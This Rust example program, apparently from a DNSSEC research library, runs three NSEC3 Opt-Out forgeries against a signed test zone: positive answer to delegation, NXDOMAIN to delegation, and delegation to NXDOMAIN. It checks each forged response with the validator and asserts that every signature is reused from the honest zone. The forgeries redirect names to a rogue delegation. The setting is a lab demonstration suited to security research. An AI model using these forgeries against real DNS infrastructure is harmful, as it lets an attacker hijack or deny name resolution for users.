// The three Opt-Out transformations against the signed example zone, each
// checked by the validator.

use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;

use dnsglue::authority::answer;
use dnsglue::cli::sign_with_seed;
use dnsglue::dnssec::{verify_nsec3_denial, DEFAULT_CLOCK};
use dnsglue::master::read_zone_file;
use dnsglue::scan::{
    check_convertibility, forge_delegation_to_nxdomain, forge_nxdomain_to_delegation, forge_positive_to_delegation,
    ForgeContext, RogueDelegation, ZoneOracle,
};
use dnsglue::{name, DnsMessage, RecordType};

pub fn run_example() -> Result<(), Box<dyn std::error::Error>> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/example.zone");
    let sz = sign_with_seed(&read_zone_file(&path)?, &[name("a.example")], true, 1).map_err(|e| e.message)?;
    let ctx = ForgeContext::for_zone(&sz, DEFAULT_CLOCK + 3600);
    let mut oracle = ZoneOracle::new(&sz.zone);
    let rogue_addr = "192.0.2.66".parse()?;

    let check = |label: &str, msg: &DnsMessage| {
        let q = msg.question.as_ref().expect("question");
        let v = verify_nsec3_denial(msg, &q.name, &ctx.apex, Some(&ctx.params), &ctx.zone_keys, ctx.clock);
        println!("== {label}: {} {:?}\n{msg}", v.result, v.proof);
    };

    let conv = check_convertibility(&sz, &name("a.c.example"), &mut oracle)?;
    let witness = conv.witness_suffix.clone().ok_or("a.c.example should be convertible")?;
    let pos2del = forge_positive_to_delegation(&conv, &RogueDelegation::under(&witness, 1, rogue_addr))?;
    check("positive to delegation", &pos2del);

    let victim = name("a.c.x.w.example");
    let honest = answer(&sz.zone, &victim, RecordType::A);
    let nxd2del = forge_nxdomain_to_delegation(
        &honest,
        &RogueDelegation::under(&name("c.x.w.example"), 2, rogue_addr),
        &ctx,
    )?;
    check("NXDOMAIN to delegation", &nxd2del);

    let referral = answer(&sz.zone, &name("www.b.example"), RecordType::A);
    let mut rng = ChaCha8Rng::seed_from_u64(1);
    let del2nxd = forge_delegation_to_nxdomain(&referral, &mut oracle, &ctx, &mut rng)?;
    check("delegation to NXDOMAIN", &del2nxd);

    for forged in [&pos2del, &nxd2del, &del2nxd] {
        assert!(
            oracle.harvested(forged),
            "every signature must come from the honest zone"
        );
    }
    Ok(())
}

#[allow(dead_code)]
fn main() {
    run_example().unwrap();
}
